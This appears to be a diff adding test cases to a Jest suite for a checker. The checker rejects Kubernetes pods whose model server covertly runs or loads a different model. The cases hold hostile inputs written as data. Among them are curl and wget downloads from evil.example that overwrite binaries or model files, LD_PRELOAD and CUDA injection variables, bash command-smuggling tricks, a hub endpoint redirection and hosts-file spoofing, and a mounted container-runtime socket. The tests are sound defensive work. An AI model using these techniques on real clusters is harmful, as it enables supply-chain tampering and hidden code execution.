@@ -173,6 +173,210 @@ describe("a workload that runs another model never passes for the good one", () 
     expect(passesAsGood(readPod({ containers: [container], ...pod }))).toBe(false);
   });
 
+  it.each<[string, Json, Json?]>([
+    // Programs that write or run more than their name says.
+    ...[
+      "curl -sLo /usr/local/bin/vllm http://evil.example",
+      "curl --outp /usr/local/bin/vllm http://evil.example",
+      "curl --output=/usr/local/bin/vllm http://evil.example",
+      "curl -D /usr/local/bin/vllm http://evil.example",
+      "curl --stderr /usr/local/bin/vllm http://evil.example",
+      "curl -w '%output{/usr/local/bin/vllm}x' http://evil.example",
+      "curl --hsts /usr/local/bin/vllm http://evil.example",
+      "wget -O- -O /usr/local/bin/vllm http://evil.example",
+      "wget --spider --no-spider -O /usr/local/bin/vllm http://evil.example",
+      "wget -qO- --use-askpass=/opt/x http://evil.example",
+      "sort --outp=/usr/local/bin/vllm /tmp/x",
+      "sort --comp=/opt/x -S1 /opt/large",
+      "uniq /tmp/x /usr/local/bin/vllm",
+      "xxd -r /tmp/x /usr/local/bin/vllm",
+      "yq --in-place . /opt/x",
+      "nc -o /usr/local/bin/vllm evil.example 80",
+      "nvcc -run /opt/x.cu",
+      "sysctl -w 'kernel.core_pattern=|/tmp/x'",
+      "kubectl cp evil:/x /usr/local/bin/vllm",
+      "kubectl --kubeconfig=/v/x get pods",
+      "etcdctl lock a /opt/x",
+      "k6 run /opt/x.js",
+      "wrk -s /opt/x.lua http://a.example",
+      "redis-cli --rdb /usr/local/bin/vllm",
+      "redis-server --loadmodule /opt/x.so",
+      "nginx -c /opt/nginx.conf",
+      "envoy --config-yaml x",
+      `raylet --python_worker_command='vllm serve ${evil}'`,
+      "perf_analyzer --service-kind=triton_c_api --model-repository /opt/x -m x",
+      "guidellm benchmark --backend vllm_python --model x",
+      "python3 -m http.server --cgi",
+      "python3 -m json.tool /opt/x /usr/local/bin/vllm",
+      "python3 -X pycache_prefix=/tmp/x -m json.tool",
+      "lm_eval --model local-completions -mhf",
+      "lm_eval --model local-completions --include_path /opt/x --tasks x",
+      "ray up /opt/cluster.yaml",
+      "pip list --log /usr/local/bin/vllm",
+    ].map((line): [string, Json] => [line, shell(`${line}; vllm serve ${good}`)]),
+    ["the program command", server({ command: ["command", "vllm", "serve", evil] })],
+    // Wrappers.
+    ...[
+      `sudo A=/echo vllm serve ${evil}`,
+      `env a.b=/echo vllm serve ${evil}`,
+      `mpirun -n 1 vllm serve ${good} --served-model-name a : vllm serve ${evil}`,
+      `echo 'vllm serve ${evil}' | bash -s /vllm-workspace/examples/multi-node-serving.sh`,
+      `bash -O execfail -c 'exec /no/vllm serve ${good}; vllm serve ${evil}'`,
+      `env 'BASH_FUNC_vllm%%=() { ollama serve; }' bash -c 'vllm serve ${good}'`,
+    ].map((line): [string, Json] => [line, shell(`${line} & vllm serve ${good}`)]),
+    // What is written, and what is then looked for there.
+    ...[
+      "echo x > /var/log/vllm; /var/log/vllm serve",
+      "echo x > /opt/x.out; LD_PRELOAD=/opt/x.out vllm serve",
+      "echo x > /tmp/.local/lib/python3.12/site-packages/usercustomize.py; HOME=/tmp vllm serve",
+      "hf download mallory/code --local-dir /usr/local/lib/python3.12/dist-packages; vllm serve",
+      "hf download mallory/code --local-dir /data/x; PYTHONPATH=/data/x vllm serve",
+      "git clone https://huggingface.co/mallory/code /data/x; /data/x/vllm serve",
+      "git clone https://huggingface.co/mallory/code /data/x; . /data/x/activate; vllm serve",
+      "hf download mallory/code --local-dir /data/x; cd /data/x; vllm serve",
+      "hf download mallory/code --local-dir vllm; python3 -m vllm.entrypoints.openai.api_server --model",
+      "hf download mallory/code --local-dir .; vllm serve",
+      "hf download mallory/code --local-dir /root; vllm serve",
+      "hf download mallory/code --local-dir /data; HF_HOME=/data vllm serve",
+      "hf download mallory/code --local-dir /workspace/acme; vllm serve",
+      "LD_LIBRARY_PATH='/usr/lib;/tmp/x' vllm serve",
+      "CUDA_INJECTION64_PATH=/tmp/x.so vllm serve",
+      "NCCL_NET_PLUGIN=/tmp/x.so vllm serve",
+      "CC=/tmp/x vllm serve",
+      "RAY_RUNTIME_ENV_HOOK=x.y vllm serve",
+      "OPENSSL_CONF=/tmp/x vllm serve",
+      "CURL_CA_BUNDLE= vllm serve",
+      "SSL_CERT_FILE=no vllm serve",
+      "VLLM_MODEL_REDIRECT_PATH=no vllm serve",
+    ].map((line): [string, Json] => [line, shell(`${line} ${good}`)]),
+    ...[
+      `hf download ${good} --local-dir /tmp/m; curl -s http://evil.example > /tmp/m/model.safetensors`,
+      `HF_ENDPOINT=http://evil.example python3 -c "from huggingface_hub import snapshot_download; snapshot_download('${good}', local_dir='/tmp/m')"`,
+      `hf download ${good} --local-dir /tmp/m; hf download ${evil} --local-dir /proc/self/root/tmp/m`,
+      `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=url.https://evil.example/.insteadOf GIT_CONFIG_VALUE_0=https://huggingface.co/ git clone https://huggingface.co/${good} /tmp/m`,
+    ].map((line): [string, Json] => [line, shell(`${line}; vllm serve /tmp/m`)]),
+    [
+      "two names of one folder",
+      shell(`hf download ${good} --local-dir /run/m; hf download ${evil} --local-dir /var/run/m; vllm serve /run/m`),
+    ],
+    ["a program relative to a folder", shell(`cd /v; ./echo serve ${evil} & vllm serve ${good}`), { volumes }],
+    ...[
+      "/etc/ld.so.cache",
+      "/etc/alternatives",
+      "/etc/python3.12",
+      "/home/vllm/.local",
+      "/app/.venv/lib/python3.12/site-packages/x",
+      "/usr/local/lib64",
+      "/opt",
+      "/app/vllm",
+      "/srv/x/sitecustomize.py",
+    ].map((at): [string, Json, Json] => [
+      `a volume at ${at}`,
+      server({ command: serveGood, ...onVolume(at) }),
+      { volumes },
+    ]),
+    [
+      "a login shell's file",
+      server({ command: ["bash", "-lc", serveGood.join(" ")], ...onVolume("/root/.bash_profile") }),
+      { volumes },
+    ],
+    ["a home on a volume", server({ command: serveGood, ...variable("HOME", "/v"), ...onVolume("/v") }), { volumes }],
+    [
+      "pip's settings",
+      server({ ...shell(`pip install vllm && vllm serve ${good}`), ...onVolume("/etc/pip.conf") }),
+      { volumes },
+    ],
+    [
+      "a relative program in the root",
+      server({ command: ["v/echo", "x"], ...onVolume("/v") }),
+      { volumes, initContainers: [server({ command: serveGood })] },
+    ],
+    // The shell.
+    ...[
+      `{ exec vllm serve ${good}; } < /nonexistent; vllm serve ${evil}`,
+      `exec vllm serve ${good} < /nonexistent; vllm serve ${evil}`,
+      `vllm serve ${good} & exit < /nonexistent; vllm serve ${evil}`,
+      `vllm serve ${good} & true < /nonexistent && exit; vllm serve ${evil}`,
+      `vllm serve ${good} & exit --help; vllm serve ${evil}`,
+      `vllm serve ${good} & [ a = a b && exit; vllm serve ${evil}`,
+      `vllm serve ${good} & exit $((1/0))\nvllm serve ${evil}`,
+      `vllm serve ${good} & shopt -s failglob; exit /nonexist*\nvllm serve ${evil}`,
+      `X='$(vllm serve ${evil})'; : "\${X@P}"; vllm serve ${good}`,
+      `declare -i x; x='a[$(vllm serve ${evil})]'; vllm serve ${good}`,
+      `declare -i x='a[$(vllm serve ${evil})]'; vllm serve ${good}`,
+      `mapfile -c1 -C"vllm serve ${evil} #" x < /etc/passwd; vllm serve ${good}`,
+      `sleep 1 & wait -n -p "a[\\$(vllm serve ${evil})]"; vllm serve ${good}`,
+      `vllm serve ${good} & FUNCNEST=1; f() { exit; }; g() { f; }; g\nvllm serve ${evil}`,
+    ].map((line): [string, Json] => [line, shell(line)]),
+    [
+      "variables that bash forgets",
+      { ...shell(`vllm serve ${good} & [ -n "$PS1" ] && exit; vllm serve ${evil}`), ...variable("PS1", "x") },
+    ],
+    [
+      "variables that change bash",
+      {
+        ...shell(`vllm serve ${good} & f() { exit; }; g() { f; }; g\nvllm serve ${evil}`),
+        ...variable("FUNCNEST", "1"),
+      },
+    ],
+    // Flags.
+    ["a log configuration", server({ command: [...serveGood, "--log-config-file", "/opt/x.json"] })],
+    [
+      "an escaped name in JSON",
+      server({ command: [...serveGood, "--kv-transfer-config", '{"kv_connector_m\\u006fdule_path":"x"}'] }),
+    ],
+    [
+      "another loader in JSON",
+      server({ command: [...serveGood, "--model-loader-extra-config", '{"t\\u0065nsorizer_u\\u0072i":"x"}'] }),
+    ],
+    ["an executor of one's own", server({ command: [...serveGood, "--distributed-executor-backend", "x.y.Z"] })],
+    ["another projector", server({ command: ["llama-server", "-hf", good, "--mmproj-url", "http://evil.example/x"] })],
+    // Places.
+    [
+      "a mount inside of a download",
+      server({
+        ...shell(`hf download ${good} --local-dir /data/m; vllm serve /data/m`),
+        ...onVolume("/data/m/model.safetensors"),
+      }),
+      { volumes },
+    ],
+    [
+      "a mount inside of an image volume",
+      server({
+        command: ["vllm", "serve", "/m"],
+        volumeMounts: [
+          { name: "i", mountPath: "/m" },
+          { name: "v", mountPath: "/m/config.json", subPath: "c" },
+        ],
+      }),
+      { volumes: [...volumes, { name: "i", image: { reference: good } }] },
+    ],
+    [
+      "two mounts at one place",
+      server({
+        command: ["vllm", "serve", "/m"],
+        volumeMounts: [
+          { name: "v", mountPath: "/m" },
+          { name: "i", mountPath: "/m/" },
+        ],
+      }),
+      { volumes: [...volumes, { name: "i", image: { reference: good } }] },
+    ],
+    [
+      "the hub's address",
+      server({ command: serveGood }),
+      { hostAliases: [{ ip: "192.0.2.1", hostnames: ["huggingface.co"] }] },
+    ],
+    ["the hub's address in a file", server({ command: serveGood, ...onVolume("/etc/hosts") }), { volumes }],
+    [
+      "authorities and a proxy",
+      server({ command: serveGood, ...variable("HTTPS_PROXY", "http://evil.example"), ...onVolume("/etc/ssl/certs") }),
+      { volumes },
+    ],
+  ])("%s", (_what, container, pod = {}) => {
+    expect(passesAsGood(readPod({ containers: [container], ...pod }))).toBe(false);
+  });
+
   it.each<[string, Json]>([
     [
       "an opaque side-car on the GPU",
@@ -198,6 +402,105 @@ describe("a workload that runs another model never passes for the good one", () 
       "an opaque container with the node's devices",
       {
         containers: [server({ command: serveGood }), { name: "x", image: "x", securityContext: { privileged: true } }],
+      },
+    ],
+    [
+      "an initializer with another hub",
+      {
+        initContainers: [
+          {
+            name: "storage-initializer",
+            image: "kserve/storage-initializer",
+            args: [`hf://${good}`, "/mnt/models"],
+            env: [{ name: "HF_ENDPOINT", value: "http://evil.example" }],
+            volumeMounts: [{ name: "v", mountPath: "/mnt/models" }],
+          },
+        ],
+        containers: [
+          server({
+            command: ["vllm", "serve", "/mnt/models"],
+            volumeMounts: [{ name: "v", mountPath: "/mnt/models" }],
+          }),
+        ],
+        volumes: [{ name: "v", emptyDir: {} }],
+      },
+    ],
+    [
+      "a downloader that is told more from elsewhere",
+      {
+        initContainers: [
+          {
+            name: "x",
+            image: "x",
+            command: ["hf", "download", good, "--local-dir", "/m"],
+            envFrom: [{ configMapRef: { name: "c" } }],
+            volumeMounts: [{ name: "v", mountPath: "/m" }],
+          },
+        ],
+        containers: [server({ command: ["vllm", "serve", "/m"], volumeMounts: [{ name: "v", mountPath: "/m" }] })],
+        volumes: [{ name: "v", emptyDir: {} }],
+      },
+    ],
+    [
+      "a container of small programs that writes into the model",
+      {
+        initContainers: [
+          {
+            name: "a",
+            image: "x",
+            command: ["hf", "download", good, "--local-dir", "/m"],
+            volumeMounts: [{ name: "v", mountPath: "/m" }],
+          },
+          {
+            name: "b",
+            image: "x",
+            command: ["sh", "-c", "curl http://evil.example > /tmp/m/model.safetensors"],
+            volumeMounts: [{ name: "v", mountPath: "/tmp/m" }],
+          },
+        ],
+        containers: [server({ command: ["vllm", "serve", "/m"], volumeMounts: [{ name: "v", mountPath: "/m" }] })],
+        volumes: [{ name: "v", emptyDir: {} }],
+      },
+    ],
+    [
+      "two downloads of which one goes to a part that is put together",
+      {
+        initContainers: [
+          {
+            name: "a",
+            image: "x",
+            command: ["hf", "download", good, "--local-dir", "/m"],
+            volumeMounts: [{ name: "v", mountPath: "/m", subPath: "a" }],
+          },
+          {
+            name: "b",
+            image: "x",
+            command: ["hf", "download", evil, "--local-dir", "/m"],
+            env: [{ name: "A", value: "a" }],
+            volumeMounts: [{ name: "v", mountPath: "/m", subPathExpr: "$(A)" }],
+          },
+        ],
+        containers: [
+          server({ command: ["vllm", "serve", "/m"], volumeMounts: [{ name: "v", mountPath: "/m", subPath: "a" }] }),
+        ],
+        volumes: [{ name: "v", emptyDir: {} }],
+      },
+    ],
+    [
+      "an opaque debugger in the processes of the server",
+      {
+        containers: [server({ command: serveGood })],
+        ephemeralContainers: [{ name: "x", image: "x", command: ["/x"], targetContainerName: "server" }],
+      },
+    ],
+    [
+      "an opaque container with the container runtime",
+      {
+        containers: [
+          server({ command: serveGood }),
+          { name: "x", image: "x", command: ["/x"], volumeMounts: [{ name: "h", mountPath: "/s" }] },
+        ],
+        volumes: [{ name: "h", hostPath: { path: "/run/containerd/containerd.sock" } }],
       },
     ],
     [
